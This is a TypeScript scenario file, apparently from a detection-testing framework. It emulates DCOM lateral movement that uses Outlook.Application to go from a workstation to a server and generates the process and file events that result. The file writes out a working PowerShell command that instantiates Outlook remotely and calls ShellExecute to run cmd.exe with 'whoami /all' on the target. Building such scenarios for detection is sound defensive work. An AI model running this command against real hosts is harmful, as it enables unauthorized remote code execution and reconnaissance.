import { callServer, launchServer, psCommand, remoteStart, runCmd } from "../actions.js";
import { ALICE_ADMIN, PATHS, SRV_APP02, WKS01 } from "../estate.js";
import type { Scenario } from "../scenario.js";

export const remoteOutlook: Scenario = {
  name: "remote-outlook",
  description:
    "Outlook.Application from WKS01 to SRV-APP02: OUTLOOK.EXE -Embedding under DcomLaunch, CreateObject('Shell.Application').ShellExecute starts cmd.exe under OUTLOOK.EXE",
  kind: "attack",
  variant: "Outlook",
  expect: { object: "Outlook", outcome: "executed", observed_on: "both", incidents: 1 },
  loopback: false,
  hosts: [WKS01, SRV_APP02],
  generate(ctx) {
    const { client, target, activation } = remoteStart(
      ctx,
      WKS01,
      SRV_APP02,
      ALICE_ADMIN,
      psCommand(
        "$o=[activator]::CreateInstance([type]::GetTypeFromProgID('Outlook.Application','SRV-APP02')); $s=$o.CreateObject('Shell.Application'); $s.ShellExecute('cmd.exe','/c whoami /all > C:\\Windows\\Temp\\o.txt','C:\\Windows\\System32',$null,0)",
      ),
    );
    const outlook = launchServer(
      ctx,
      target,
      activation.logon,
      PATHS.outlook,
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" -Embedding',
      500,
    );
    callServer(ctx, client, outlook, 3400);
    const cmd = runCmd(ctx, outlook, "/c whoami /all > C:\\Windows\\Temp\\o.txt", 3700);
    ctx.emu.startProcess(
      { parent: cmd, image: "C:\\Windows\\System32\\whoami.exe", commandLine: "whoami  /all" },
      ctx.at(3760),
    );
    ctx.emu.fileCreate(cmd, "C:\\Windows\\Temp\\o.txt", ctx.at(3770));
    return ctx.produced();
  },
};
